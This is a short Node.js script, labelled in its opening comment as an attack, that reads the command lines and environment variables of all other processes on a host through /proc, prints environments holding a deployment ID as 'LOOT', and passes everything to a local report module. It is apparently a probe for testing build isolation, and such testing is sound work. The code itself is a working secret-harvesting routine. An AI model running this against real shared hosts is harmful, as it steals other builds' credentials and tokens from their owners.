// Attack: look through /proc for the other builds running on the host, their command lines and
// environments (with their secrets).
const fs = require('fs');
const { pids, publish } = require('./report');

const seen = {};
for (const pid of pids()) {
  const read = (file) => {
    try {
      return fs.readFileSync(`/proc/${pid}/${file}`, 'utf8').split('\0').join(' ').trim();
    } catch (e) {
      return 'DENIED ' + e.code;
    }
  };
  seen[pid] = { cmdline: read('cmdline'), environ: read('environ') };
}
const loot = Object.values(seen).map((p) => p.environ).filter((env) => env.includes('MIAOBU_DEPLOYMENT_ID='));
loot.forEach((env) => console.log('LOOT ' + env));
publish('SCAN', { self: process.pid, seen }, { self: process.pid, processes: Object.keys(seen).length });
